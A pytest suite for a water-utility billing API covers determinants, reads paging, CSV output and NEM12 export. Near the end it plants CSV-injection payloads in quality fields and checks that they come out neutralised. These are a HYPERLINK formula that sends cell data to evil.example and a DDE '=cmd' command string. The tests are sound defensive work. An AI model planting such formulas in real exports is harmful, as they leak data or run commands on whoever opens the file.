"""The billing API: determinants across a meter replacement and a change of tenant, reads, CSV, NEM12."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import psycopg
import pytest
from fastapi.testclient import TestClient

from server.app import create_app
from server.auth import create_api_key

FEB = datetime(2026, 2, 1, tzinfo=UTC)
MAR = datetime(2026, 3, 1, tzinfo=UTC)
SWAP = datetime(2026, 2, 15, tzinfo=UTC)  # B1 replaced by B2 at SP1
MOVE = datetime(2026, 2, 10, tzinfo=UTC)  # A3 moves out of SP2, A2 moves in


def _hourly(meter: str, start: datetime, end: datetime, first: Decimal, per_hour: Decimal) -> list[tuple]:
    hours = int((end - start).total_seconds() // 3600)
    return [(meter, start + timedelta(hours=h), first + per_hour * h) for h in range(hours + 1)]


@pytest.fixture
def api(migrated_database_url: str) -> Iterator[tuple[TestClient, dict[str, str]]]:
    url = migrated_database_url
    with psycopg.connect(url, autocommit=True) as conn:
        keys = {role: create_api_key(conn, f"test {role}", [role]) for role in ("billing", "reader", "admin")}
        conn.execute("INSERT INTO meters (meter_id, registered) VALUES ('B1', true), ('B2', true), ('B3', true)")
        conn.execute("INSERT INTO accounts (account_id, name) VALUES ('A1', 'Ada'), ('A2', 'Bo'), ('A3', 'Cy')")
        conn.execute("INSERT INTO service_points (service_point_id, dma) VALUES ('SP1', 'D1'), ('SP2', 'D1')")
        conn.execute(
            "INSERT INTO service_agreements (account_id, service_point_id, start_at, end_at) VALUES "
            "('A1', 'SP1', '2025-06-01Z', NULL), ('A3', 'SP2', '2025-01-01Z', %(move)s), ('A2', 'SP2', %(move)s, NULL)",
            {"move": MOVE},
        )
        conn.execute(
            "INSERT INTO meter_installations (service_point_id, meter_id, installed_at, removed_at) VALUES "
            "('SP1', 'B1', '2025-06-01Z', %(swap)s), ('SP1', 'B2', %(swap)s, NULL), ('SP2', 'B3', '2025-01-01Z', NULL)",
            {"swap": SWAP},
        )
        rows = (
            _hourly("B1", FEB - timedelta(days=1), SWAP, Decimal("100.000"), Decimal("0.010"))
            + _hourly("B2", SWAP, MAR, Decimal("0.000"), Decimal("0.020"))
            + _hourly("B3", FEB, MAR, Decimal("500.000"), Decimal("0.005"))
        )
        with conn.cursor() as cur, cur.copy("COPY readings (meter_id, ts, volume_m3) FROM STDIN") as copy:
            for row in rows:
                copy.write_row(row)
        conn.execute(
            "UPDATE readings SET quality = 'estimated', quality_by = 'vee:linear', quality_reason = 'gap' "
            "WHERE meter_id = 'B3' AND ts = %s",
            (MAR,),
        )
        conn.execute("SELECT refresh_consumption(%s, %s)", (FEB, MAR))
    with TestClient(create_app(url)) as client:
        yield client, keys


def auth(key: str, **headers: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}", **headers}


def assert_problem(response, status: int) -> dict:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    return response.json()


def test_only_billing_and_admin_keys_get_in(api):
    client, keys = api
    assert_problem(client.get("/billing/determinants?period=2026-02"), 401)
    assert_problem(client.get("/billing/determinants?period=2026-02", headers=auth(keys["reader"])), 403)
    assert client.get("/billing/determinants?period=2026-02", headers=auth(keys["admin"])).status_code == 200


def test_determinants_add_up_across_a_replacement_and_split_at_a_change_of_tenant(api):
    client, keys = api
    response = client.get("/billing/determinants?period=2026-02", headers=auth(keys["billing"]))
    assert response.status_code == 200, response.text
    body = response.json()
    by_account = {d["account_id"]: d for d in body["items"]}
    assert sorted(by_account) == ["A1", "A2", "A3"]
    a1 = by_account["A1"]
    assert [line["meter_id"] for line in a1["lines"]] == ["B1", "B2"]
    assert [Decimal(line["consumption_m3"]) for line in a1["lines"]] == [Decimal("3.36"), Decimal("6.72")]
    assert Decimal(a1["consumption_m3"]) == Decimal("10.08") and a1["complete"] and a1["quality"] == "actual"
    b1, b2 = a1["lines"]
    assert b1["opening"]["ts"].startswith("2026-02-01T00:00")
    assert Decimal(b1["opening"]["volume_m3"]) == Decimal("100.24")
    assert b1["closing"]["ts"].startswith("2026-02-15T00:00")
    assert Decimal(b2["opening"]["volume_m3"]) == 0 and Decimal(b2["closing"]["volume_m3"]) == Decimal("6.72")
    assert Decimal(by_account["A3"]["consumption_m3"]) == Decimal("1.080")  # 9 days x 24 h x 5 l
    assert Decimal(by_account["A2"]["consumption_m3"]) == Decimal("2.280")  # 19 days
    assert by_account["A2"]["quality"] == "estimated"  # its closing read was estimated


def test_determinants_page_by_account_and_filter_by_one(api):
    client, keys = api
    first = client.get("/billing/determinants?period=2026-02&limit=2", headers=auth(keys["billing"])).json()
    assert [d["account_id"] for d in first["items"]] == ["A1", "A2"] and first["next"]
    second = client.get(first["next"], headers=auth(keys["billing"])).json()
    assert [d["account_id"] for d in second["items"]] == ["A3"] and second["next"] is None
    one = client.get("/billing/determinants?period=2026-02-01/2026-03-01&account=A2", headers=auth(keys["billing"]))
    assert [d["account_id"] for d in one.json()["items"]] == ["A2"]


def test_determinants_as_csv_by_accept_header_or_format(api):
    client, keys = api
    by_header = client.get("/billing/determinants?period=2026-02", headers=auth(keys["billing"], Accept="text/csv"))
    by_param = client.get("/billing/determinants?period=2026-02&format=csv", headers=auth(keys["billing"]))
    assert by_header.headers["content-type"].startswith("text/csv")
    assert by_header.text == by_param.text
    rows = list(csv.DictReader(io.StringIO(by_header.text)))
    assert [(r["account_id"], r["meter_id"], r["consumption_m3"]) for r in rows] == [
        ("A1", "B1", "3.360"),
        ("A1", "B2", "6.720"),
        ("A2", "B3", "2.280"),
        ("A3", "B3", "1.080"),
    ]
    assert rows[0]["account_consumption_m3"] == "10.080" and rows[2]["closing_quality"] == "estimated"


@pytest.mark.parametrize(
    ("accept", "csv_wanted"),
    [
        ("text/csv;q=0.1, application/json", False),  # was CSV: the header merely named text/csv
        ("text/csv;q=0, */*", False),
        ("application/json;q=0.5, text/csv", True),
        ("text/csv, */*;q=0.1", True),
    ],
)
@pytest.mark.parametrize(
    "path",
    [
        "/billing/determinants?period=2026-02",
        "/billing/reads?account=A1&from=2026-02-14T22:00:00Z&to=2026-02-15T02:00:00Z",
    ],
)
def test_a_weighted_accept_header_gets_the_type_of_highest_q(api, accept, csv_wanted, path):
    client, keys = api
    response = client.get(path, headers=auth(keys["billing"], Accept=accept))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv" if csv_wanted else "application/json"), accept


def test_reads_of_an_account_follow_its_meters_paged_and_as_csv(api):
    client, keys = api
    query = "/billing/reads?account=A1&from=2026-02-14T22:00:00Z&to=2026-02-15T02:00:00Z&limit=3"
    page = client.get(query, headers=auth(keys["billing"])).json()
    assert [(r["meter_id"], r["ts"][11:16]) for r in page["items"]] == [
        ("B1", "22:00"),
        ("B1", "23:00"),
        ("B2", "00:00"),
    ]
    rest = client.get(page["next"], headers=auth(keys["billing"])).json()
    assert [(r["meter_id"], r["ts"][11:16]) for r in rest["items"]] == [("B2", "01:00")] and rest["next"] is None
    assert all(r["quality"] == "actual" and r["service_point_id"] == "SP1" for r in page["items"] + rest["items"])
    text = client.get(query + "&format=csv", headers=auth(keys["billing"])).text
    assert [r["volume_m3"] for r in csv.DictReader(io.StringIO(text))] == ["103.580", "103.590", "0.000", "0.020"]


@pytest.mark.parametrize(
    "ends",
    ["from=0001-01-01T00:00:00%2B01:00&to=2026-03-01T00:00Z", "from=2026-02-01T00:00Z&to=9999-12-31T23:59:59-01:00"],
    ids=["from_before_year_1", "to_after_year_9999"],
)
def test_reads_asked_for_beyond_the_calendar_in_utc_are_a_problem_not_a_500(api, ends):
    """0001-01-01T00:00+01:00 is in the year 0 in UTC: the page could not say its start, and
    /billing/reads answered 500 after running the query."""
    client, keys = api
    body = assert_problem(client.get(f"/billing/reads?account=A1&{ends}", headers=auth(keys["billing"])), 422)
    assert "within the years 1 to 9999" in body["detail"]


def test_bad_requests_are_problems(api):
    client, keys = api
    h = auth(keys["billing"])
    body = assert_problem(client.get("/billing/determinants?period=2026-13", headers=h), 400)
    assert body["title"] == "Invalid period"
    assert_problem(client.get("/billing/determinants?period=2026-03-01/2026-02-01", headers=h), 400)
    assert_problem(client.get("/billing/determinants?period=9999-12", headers=h), 400)
    assert_problem(client.get("/billing/nem12?period=9999-12", headers=h), 400)
    # Valid ends, but NEM12's whole days would run into the year 10000.
    assert_problem(client.get("/billing/nem12?period=9999-12-01/9999-12-31T12:00Z", headers=h), 400)
    assert_problem(client.get("/billing/determinants?period=2026-02&account=NOPE", headers=h), 404)
    day = "from=2026-02-01T00:00Z&to=2026-02-02T00:00Z"
    assert_problem(client.get(f"/billing/reads?account=NOPE&{day}", headers=h), 404)
    assert_problem(client.get(f"/billing/reads?account=A%001&{day}", headers=h), 400)
    assert_problem(client.get("/billing/reads?account=A1&from=2026-02-02T00:00Z&to=2026-02-01T00:00Z", headers=h), 400)
    assert_problem(client.get("/billing/reads?account=A1&from=2026-02-01T00:00&to=2026-02-02T00:00Z", headers=h), 422)


def test_nem12_export_has_the_record_layout_and_quality_flags(api):
    client, keys = api
    response = client.get("/billing/nem12?period=2026-02-27/2026-03-01&account=A2", headers=auth(keys["billing"]))
    assert response.status_code == 200, response.text
    records = [line.split(",") for line in response.text.strip().split("\r\n")]
    assert [r[0] for r in records] == ["100", "200", "300", "300", "400", "400", "900"]
    assert records[0][1] == "NEM12" and records[1][1] == "SP2" and records[1][6] == "B3" and records[1][7] == "KL"
    day1, day2 = records[2], records[3]
    assert day1[1] == "20260227" and day1[2:26] == ["0.005"] * 24 and day1[26] == "A"
    assert day2[26] == "V"  # the last hour closes on the estimated read
    # VEE's linear estimate fills a gap after the fact: a substitution (S), linear (17), reason 0 with its text.
    assert records[4][1:] == ["1", "23", "A", "", ""] and records[5][1:] == ["24", "24", "S17", "0", "gap"]


def test_nem12_days_are_the_utility_s_standard_time(api, migrated_database_url):
    """Sydney in February is on daylight time (+11); NEM12 days stay on standard time (+10)."""
    client, keys = api
    with psycopg.connect(migrated_database_url, autocommit=True) as conn:
        conn.execute("SELECT set_utility_timezone('Australia/Sydney')")
    response = client.get("/billing/nem12?period=2026-02-28/2026-03-02&account=A2", headers=auth(keys["billing"]))
    assert response.status_code == 200, response.text
    records = [line.split(",") for line in response.text.strip().split("\r\n")]
    days = {r[1]: r for r in records if r[0] == "300"}
    assert list(days) == ["20260228", "20260301"] and all(len(r) == 2 + 24 + 5 for r in days.values())
    # B3's last read, estimated, is at 2026-03-01T00:00Z = 10:00 on 1 March at +10: it closes interval 10;
    # the hours after it have no data yet.
    runs = [r[1:4] for r in records if r[0] == "400"]
    assert runs == [["1", "9", "A"], ["10", "10", "S17"], ["11", "24", "N"]]
    assert days["20260228"][2:26] == ["0.005"] * 24 and days["20260228"][26] == "A"


def test_the_command_line_gives_the_same_determinants_and_nem12(api, migrated_database_url):
    from typer.testing import CliRunner

    from aquami.cli import app

    client, keys = api
    env = {"AQUAMI_DATABASE_URL": migrated_database_url}
    by_cli = CliRunner().invoke(app, ["bill", "determinants", "--period", "2026-02", "--csv"], env=env)
    assert by_cli.exit_code == 0, by_cli.output
    by_api = client.get("/billing/determinants?period=2026-02&format=csv", headers=auth(keys["billing"])).text
    assert by_cli.output.splitlines() == by_api.splitlines()
    as_json = CliRunner().invoke(app, ["bill", "determinants", "--period", "2026-02"], env=env)
    assert as_json.exit_code == 0, as_json.output
    api_json = client.get("/billing/determinants?period=2026-02", headers=auth(keys["billing"])).json()
    assert json.loads(as_json.output) == {k: v for k, v in api_json.items() if k != "next"}
    assert api_json["start"] == "2026-02-01T00:00:00Z"
    nem12 = CliRunner().invoke(app, ["bill", "nem12", "--period", "2026-02-27/2026-03-01", "--account", "A2"], env=env)
    assert nem12.exit_code == 0 and nem12.output.splitlines()[1].startswith("200,SP2,")
    bad = CliRunner().invoke(app, ["bill", "nem12", "--period", "2026-13"], env=env)
    assert bad.exit_code == 2 and "no month 13" in bad.output


@pytest.mark.parametrize("command", ["determinants", "nem12"])
def test_the_command_line_refuses_an_unknown_account_as_the_api_does(api, migrated_database_url, tmp_path, command):
    """The API answers 404 for an account no account has; the command wrote an empty determinants
    file (or a NEM12 file of no meters) and exited 0, a mistyped account read as one using no water."""
    from typer.testing import CliRunner

    from aquami.cli import app

    client, keys = api
    assert_problem(client.get(f"/billing/{command}?period=2026-02&account=A9", headers=auth(keys["billing"])), 404)
    out = tmp_path / "file.csv"
    env = {"AQUAMI_DATABASE_URL": migrated_database_url}
    result = CliRunner().invoke(
        app, ["bill", command, "--period", "2026-02", "--account", "A9", "--out", str(out)], env=env
    )
    assert result.exit_code == 2, result.output
    assert "Invalid value for --account: no account 'A9'" in result.output
    assert not out.exists()
    known = CliRunner().invoke(app, ["bill", command, "--period", "2026-02", "--account", "A1"], env=env)
    assert known.exit_code == 0, known.output


def test_nem12_in_a_zone_whose_clocks_move_half_an_hour_is_refused(api, migrated_database_url):
    """Australia/Lord_Howe (+10:30, summer +11:00): the export gave every summer hour as null data
    (N, value 0) though each hour had an actual read; now the API answers 409 and the command says why."""
    from typer.testing import CliRunner

    from aquami.cli import app

    client, keys = api
    with psycopg.connect(migrated_database_url, autocommit=True) as conn:
        conn.execute("SELECT set_utility_timezone('Australia/Lord_Howe')")
    body = assert_problem(client.get("/billing/nem12?period=2026-02-10/2026-02-11", headers=auth(keys["billing"])), 409)
    assert "Australia/Lord_Howe puts its clocks forward by 30 minutes" in body["detail"]
    env = {"AQUAMI_DATABASE_URL": migrated_database_url}
    by_cli = CliRunner().invoke(app, ["bill", "nem12", "--period", "2026-02-10/2026-02-11"], env=env)
    assert by_cli.exit_code == 1 and "error: the utility's time zone Australia/Lord_Howe" in by_cli.output
    assert by_cli.stdout == ""  # no file


@pytest.mark.parametrize(("account", "first", "last"), [("A3", "20260201", "20260209"), ("A2", "20260210", "20260228")])
def test_an_account_s_nem12_holds_only_its_own_days_at_the_service_point(api, account, first, last):
    """SP2 changed tenant on 10 February (A3 out, A2 in). Each one's NEM12 for February holds the
    days of its own agreement only: A3's used to carry every day of the month, A2's consumption in
    it, which a billing system would have charged to A3."""
    client, keys = api
    response = client.get(f"/billing/nem12?period=2026-02&account={account}", headers=auth(keys["billing"]))
    assert response.status_code == 200, response.text
    days = [line.split(",") for line in response.text.strip().split("\r\n") if line.startswith("300,")]
    assert days[0][1] == first and days[-1][1] == last
    assert len(days) == (datetime.strptime(last, "%Y%m%d") - datetime.strptime(first, "%Y%m%d")).days + 1
    used = sum(Decimal(v) for day in days for v in day[2:26])
    assert used == Decimal("0.005") * 24 * len(days)


def _account_a9_on_meter_b9(url: str, day: datetime, volumes: list[Decimal], every: timedelta) -> None:
    """Account A9 supplied at SP9 through meter B9 from ``day``, read every ``every``, its
    consumption refreshed for the day."""
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute("INSERT INTO meters (meter_id, registered) VALUES ('B9', true)")
        conn.execute("INSERT INTO accounts (account_id, name) VALUES ('A9', 'Di')")
        conn.execute("INSERT INTO service_points (service_point_id, dma) VALUES ('SP9', 'D1')")
        conn.execute(
            "INSERT INTO service_agreements (account_id, service_point_id, start_at) VALUES ('A9', 'SP9', %s)", (day,)
        )
        conn.execute(
            "INSERT INTO meter_installations (service_point_id, meter_id, installed_at) VALUES ('SP9', 'B9', %s)",
            (day,),
        )
        with conn.cursor() as cur, cur.copy("COPY readings (meter_id, ts, volume_m3) FROM STDIN") as copy:
            for n, volume in enumerate(volumes):
                copy.write_row(("B9", day + n * every, volume))
        conn.execute("SELECT refresh_consumption(%s, %s)", (day, day + timedelta(days=1)))


def test_an_hour_with_an_unknown_interval_is_null_data_with_value_zero(api, migrated_database_url):
    """Reads every 15 minutes; in one hour the register goes back (no discontinuity recorded), so
    that hour's consumption is unknown. NEM12 marks it N (null data) with the value 0: it used to
    carry the sum of the hour's known quarters, a number a billing system could take for the hour."""
    client, keys = api
    day = datetime(2026, 2, 20, tzinfo=UTC)
    volumes = [Decimal("10.000") + Decimal("0.001") * q for q in range(4 * 24 + 1)]
    volumes[4 * 6 + 3] = Decimal("9.000")  # 06:45: backwards, then on as before
    _account_a9_on_meter_b9(migrated_database_url, day, volumes, timedelta(minutes=15))
    response = client.get("/billing/nem12?period=2026-02-20/2026-02-21&account=A9", headers=auth(keys["billing"]))
    assert response.status_code == 200, response.text
    records = [line.split(",") for line in response.text.strip().split("\r\n")]
    day_record = next(r for r in records if r[0] == "300")
    values = day_record[2:26]
    assert values[6] == "0"  # 06:00-07:00 (its quarters closing at 06:15 ... 07:00): unknown
    assert values[5] == "0.004" and values[8] == "0.004"
    assert ["7", "7", "N", "", ""] in [r[1:] for r in records if r[0] == "400"]


def test_a_period_with_an_unknown_interval_between_two_actual_reads_is_incomplete_and_missing(
    api, migrated_database_url
):
    """Both reads that open and close the period are actual, but the register went back between
    them (no discontinuity recorded): the period's use is unknown. The determinant says so with
    complete=false and quality "missing"; "actual" would vouch for a number that is not there."""
    client, keys = api
    day = datetime(2026, 2, 20, tzinfo=UTC)
    volumes = [Decimal("10.000") + Decimal("0.010") * h for h in range(25)]
    volumes[12] = Decimal("9.000")  # 12:00: backwards, then on as before
    _account_a9_on_meter_b9(migrated_database_url, day, volumes, timedelta(hours=1))
    period = "2026-02-20/2026-02-21"
    response = client.get(f"/billing/determinants?period={period}&account=A9", headers=auth(keys["billing"]))
    assert response.status_code == 200, response.text
    (determinant,) = response.json()["items"]
    (line,) = determinant["lines"]
    assert (line["opening"]["quality"], line["closing"]["quality"]) == ("actual", "actual")
    assert line["consumption_m3"] is None
    assert (determinant["complete"], determinant["consumption_m3"], determinant["quality"]) == (False, None, "missing")
    as_csv = client.get(f"/billing/determinants?period={period}&account=A9&format=csv", headers=auth(keys["billing"]))
    csv_rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [(row["account_quality"], row["account_complete"], row["account_consumption_m3"]) for row in csv_rows] == [
        ("missing", "false", "")
    ]


def test_small_volumes_are_sent_in_fixed_point_never_with_an_exponent(api, migrated_database_url):
    """A register of 0.0000001 m3 (a new meter's first drop, as a gateway sends 1e-07) came back as
    "1E-7" in JSON and CSV: exact, but not every billing import or client reads an exponent."""
    client, keys = api
    with psycopg.connect(migrated_database_url, autocommit=True) as conn:
        conn.execute("INSERT INTO meters (meter_id, registered) VALUES ('B8', true)")
        conn.execute("INSERT INTO accounts (account_id, name) VALUES ('A8', 'Ed')")
        conn.execute("INSERT INTO service_points (service_point_id, dma) VALUES ('SP8', 'D1')")
        conn.execute(
            "INSERT INTO service_agreements (account_id, service_point_id, start_at) VALUES ('A8', 'SP8', %s)", (FEB,)
        )
        conn.execute(
            "INSERT INTO meter_installations (service_point_id, meter_id, installed_at) VALUES ('SP8', 'B8', %s)",
            (FEB,),
        )
        conn.execute(
            "INSERT INTO readings (meter_id, ts, volume_m3) VALUES ('B8', %s, 1e-07), ('B8', %s, 0.0000000)",
            (FEB + timedelta(hours=1), FEB + timedelta(hours=2)),
        )
    h = auth(keys["billing"])
    query = "/billing/reads?account=A8&from=2026-02-01T00:00:00Z&to=2026-02-02T00:00:00Z"
    values = [r["volume_m3"] for r in client.get(query, headers=h).json()["items"]]
    assert values == ["0.0000001", "0.0000000"]
    csv_text = client.get(query + "&format=csv", headers=h).text
    assert "0.0000001" in csv_text and "E-" not in csv_text
    reads = client.get(
        "/meters/B8/readings?from=2026-02-01T00:00:00Z&to=2026-02-02T00:00:00Z", headers=auth(keys["admin"])
    )
    assert [r["volume_m3"] for r in reads.json()["items"]] == ["0.0000001", "0.0000000"]
    page = client.post("/login", data={"key": keys["reader"]}, follow_redirects=True)
    assert page.status_code == 200 and ">0.0000000<" in page.text and "E-7" not in page.text


@pytest.mark.parametrize(("sender", "receiver"), [("AQ,EXTRA", "BILLING"), ("AQUAMI", "B\r\n900"), ("", "BILLING")])
def test_a_nem12_participant_id_that_would_add_fields_or_records_is_refused(
    api, migrated_database_url, sender, receiver
):
    from typer.testing import CliRunner

    from aquami.cli import app

    client, keys = api
    params = {"period": "2026-02", "sender": sender, "receiver": receiver}
    response = client.get("/billing/nem12", params=params, headers=auth(keys["billing"]))
    assert response.status_code == 422 and response.headers["content-type"].startswith("application/problem+json")
    env = {"AQUAMI_DATABASE_URL": migrated_database_url}
    by_cli = CliRunner().invoke(
        app, ["bill", "nem12", "--period", "2026-02", "--sender", sender, "--receiver", receiver], env=env
    )
    assert by_cli.exit_code == 2 and "no participant id" in by_cli.output


def test_the_hour_after_an_estimated_gap_is_not_flagged_actual_in_nem12(migrated_database_url):
    """Reads at 01:00 and 04:00, VEE's estimates at 02:00 and 03:00. The hour 03:00-04:00 is closed
    by an actual read, but its value is that read less the 03:00 estimate: no one measured it. It
    was exported as A (actual) with no method; it is S17, as the hours the estimates close."""
    from psycopg.rows import dict_row

    from collector.vee.runner import run_vee
    from server.billing.nem12 import nem12_file
    from tests.server.test_nem12_gaps import installed_with_reads

    day = datetime(2026, 11, 2, tzinfo=UTC)
    volumes = {h: Decimal("100.000") + Decimal("0.010") * h for h in range(25) if h not in (2, 3)}
    with psycopg.connect(migrated_database_url) as conn:
        installed_with_reads(conn, "G1", "SPG", day - timedelta(days=10),
                             {day + timedelta(hours=hour): volume for hour, volume in volumes.items()})  # fmt: skip
        conn.commit()
        run_vee(conn, day, day + timedelta(days=1, hours=1), now=day + timedelta(days=1, hours=1))
        conn.execute("SELECT refresh_consumption(%s, %s)", (day, day + timedelta(days=1)))
        estimated = conn.execute("SELECT ts FROM readings WHERE quality = 'estimated' ORDER BY ts").fetchall()
    with psycopg.connect(migrated_database_url, row_factory=dict_row) as conn:
        text = nem12_file(conn, day, day + timedelta(days=1))  # type: ignore[arg-type]  # a dict_row connection
    assert [ts.hour for (ts,) in estimated] == [2, 3]
    runs = [line.split(",")[1:4] for line in text.splitlines() if line.startswith("400,")]
    assert runs == [["1", "1", "A"], ["2", "4", "S17"], ["5", "24", "A"]]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"see note")', "+1+1", "-2+3 read twice", "@SUM(A1:A9)"]


def test_free_text_starting_like_a_formula_is_inert_in_the_reads_csv_and_numbers_stay_numbers(
    api, migrated_database_url
):
    """A reason '=HYPERLINK(...)' went into the CSV as it was: a formula, a live link, in billing's
    spreadsheet (OWASP CSV injection). Text cells get a leading "'"; volumes and times are as they were."""
    client, keys = api
    with psycopg.connect(migrated_database_url, autocommit=True) as conn:
        for hour, reason in enumerate(FORMULAS):
            conn.execute(
                "UPDATE readings SET quality = 'edited', quality_by = %s, quality_reason = %s "
                "WHERE meter_id = 'B1' AND ts = %s",
                ("=cmd|' /C calc'!A0", reason, FEB + timedelta(hours=hour)),
            )
    query = "/billing/reads?account=A1&from=2026-02-01T00:00Z&to=2026-02-01T04:00Z&format=csv"
    rows = list(csv.DictReader(io.StringIO(client.get(query, headers=auth(keys["billing"])).text)))
    assert [r["quality_reason"] for r in rows] == ["'" + reason for reason in FORMULAS]
    assert {r["quality_by"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert [r["volume_m3"] for r in rows] == ["100.240", "100.250", "100.260", "100.270"]
    assert rows[0]["ts"] == "2026-02-01T00:00:00Z" and rows[0]["meter_id"] == "B1"


def test_a_reason_starting_like_a_formula_is_inert_in_nem12(api, migrated_database_url):
    client, keys = api
    with psycopg.connect(migrated_database_url, autocommit=True) as conn:
        conn.execute(
            "UPDATE readings SET quality_reason = %s WHERE meter_id = 'B3' AND ts = %s",
            ('=HYPERLINK("http://evil.example/?"&A1;"see note")', MAR),
        )
    response = client.get("/billing/nem12?period=2026-02-27/2026-03-01&account=A2", headers=auth(keys["billing"]))
    records = [line.split(",") for line in response.text.strip().split("\r\n")]
    assert records[5][1:] == ["24", "24", "S17", "0", '\'=HYPERLINK("http://evil.example/?"&A1;"see note")']


@pytest.mark.parametrize(
    "written",
    ["2026-02-14_22:00:00Z", "1771106400", "20260214", "2026-02-14T22.5Z", "2026-02-14x22:00:00Z"],
    ids=["underscore", "unix_seconds", "compact_date", "fraction_of_hour", "x_separator"],
)
@pytest.mark.parametrize("name", ["from", "to", "changed_since"])
def test_reads_asked_for_with_a_time_not_as_iso_8601_writes_it_are_a_problem(api, name, written):
    """pydantic read ``2026-02-14_22:00:00Z`` as 22:00 and ``20260214`` as seconds since 1970
    (1970-08-23): /billing/reads answered for a period no one asked for."""
    client, keys = api
    times = {"from": "2026-02-14T22:00:00Z", "to": "2026-02-15T02:00:00Z", "changed_since": "2026-01-01T00:00:00Z"}
    query = "&".join(f"{k}={written if k == name else v}" for k, v in times.items())
    body = assert_problem(client.get(f"/billing/reads?account=A1&{query}", headers=auth(keys["billing"])), 422)
    assert f"'{written}' is no ISO 8601 time" in body["detail"] or "fraction" in body["detail"], body["detail"]


@pytest.mark.parametrize(
    "cursor_ts", ["2026-02-14x22:00:00%2B00:00", "2026-02-14T22.5%2B00:00"], ids=["x_separator", "fraction_of_hour"]
)
def test_a_reads_cursor_with_a_time_python_reads_as_another_is_refused(api, cursor_ts):
    """``fromisoformat`` took any character between date and time and read ``22.5`` as half a
    second past 22:00: a cursor so written continued the pages from a time no page ended at."""
    client, keys = api
    query = f"/billing/reads?account=A1&from=2026-02-14T22:00:00Z&to=2026-02-15T02:00:00Z&cursor={cursor_ts}~B1"
    body = assert_problem(client.get(query, headers=auth(keys["billing"])), 400)
    assert body["title"] == "Invalid cursor"


@pytest.mark.parametrize("name", ["from", "to", "cursor"])
def test_a_meter_s_readings_asked_for_with_a_time_not_as_iso_8601_writes_it_are_a_problem(api, name):
    """``from=2026-02-14_22:00:00Z`` was read as 22:00, ``cursor=1771106400`` as seconds since 1970."""
    client, keys = api
    h = auth(keys["reader"])
    times = {"from": "2026-02-14T22:00:00Z", "to": "2026-02-15T02:00:00Z"}
    assert client.get(f"/meters/B1/readings?from={times['from']}&to={times['to']}", headers=h).status_code == 200
    for written in ("2026-02-14_22:00:00Z", "1771106400"):
        query = "&".join(f"{k}={written if k == name else v}" for k, v in times.items())
        if name == "cursor":
            query += f"&cursor={written}"
        body = assert_problem(client.get(f"/meters/B1/readings?{query}", headers=h), 422)
        assert f"'{written}' is no ISO 8601 time" in body["detail"], body["detail"]
    body = assert_problem(client.get("/meters/B1/readings/2026-02-14_22:00:00Z/history", headers=h), 422)
    assert "is no ISO 8601 time" in body["detail"]


def test_a_time_ahead_of_utc_typed_into_the_url_with_its_plus_is_told_to_write_it_2b(api):
    """A billing system east of UTC asks ``from=2026-02-01T11:00+11:00`` with the ``+`` as it is: the
    query string makes it a space. The reads were a 422 "unexpected extra characters at the end of the
    input" and the determinants a 400 "is not a date or a date-time"; now each says to write the ``+``
    as %2B (or the time in UTC), and written so, the same query is answered."""
    client, keys = api
    h = auth(keys["billing"])
    reads = "/billing/reads?account=A1&from=2026-02-01T11:00+11:00&to=2026-02-01T13:00+11:00"
    body = assert_problem(client.get(reads, headers=h), 422)
    assert [e["location"] for e in body["errors"]] == ["query/from", "query/to"]
    assert all("write it %2B" in e["message"] for e in body["errors"]), body
    answered = client.get(reads.replace("+", "%2B"), headers=h)
    assert answered.status_code == 200, answered.text
    assert [i["ts"] for i in answered.json()["items"]] == ["2026-02-01T00:00:00Z", "2026-02-01T01:00:00Z"]
    period = "/billing/determinants?period=2026-02-01T11:00+11:00/2026-02-08T11:00+11:00"
    assert "write it %2B" in assert_problem(client.get(period, headers=h), 400)["detail"]
    assert client.get(period.replace("+", "%2B"), headers=h).status_code == 200


@pytest.mark.parametrize("meter", ["B~4", "B~2026-02-01T00:00:00+00:00~x", "~"])
def test_a_pull_pages_past_a_meter_whose_id_holds_a_tilde(api, migrated_database_url, meter):
    """A meter registered before ids were checked may have ``~`` in its id, the character the reads'
    cursor (``ts~meter~next_changed_since``) is written with: cut at the meter's own ``~``, the page
    after a page ending on its read was a 400 "invalid cursor", and the pull's later reads were in no
    page. Now every page comes, and the pages hold the period's reads once each."""
    client, keys = api
    with psycopg.connect(migrated_database_url, autocommit=True) as conn:
        conn.execute("INSERT INTO meters (meter_id, registered) VALUES (%s, true)", (meter,))
        conn.execute("INSERT INTO accounts (account_id, name) VALUES ('A4', 'Di')")
        conn.execute("INSERT INTO service_points (service_point_id, dma) VALUES ('SP4', 'D1')")
        conn.execute(
            "INSERT INTO service_agreements (account_id, service_point_id, start_at) VALUES ('A4', 'SP4', %s)", (FEB,)
        )
        conn.execute(
            "INSERT INTO meter_installations (service_point_id, meter_id, installed_at) VALUES ('SP4', %s, %s)",
            (meter, FEB),
        )
        with conn.cursor() as cur, cur.copy("COPY readings (meter_id, ts, volume_m3) FROM STDIN") as copy:
            for row in _hourly(meter, FEB, FEB + timedelta(hours=5), Decimal("7.000"), Decimal("0.010")):
                copy.write_row(row)
    h = auth(keys["billing"])
    period = {"account": "A4", "from": "2026-02-01T00:00:00Z", "to": "2026-02-02T00:00:00Z"}
    whole = client.get("/billing/reads", params=period, headers=h).json()["items"]
    assert len(whole) == 6
    page = client.get("/billing/reads", params={**period, "limit": 2}, headers=h)
    paged = []
    while True:
        assert page.status_code == 200, page.text
        paged += page.json()["items"]
        if page.json()["next"] is None:
            break
        page = client.get(page.json()["next"], headers=h)
    assert paged == whole
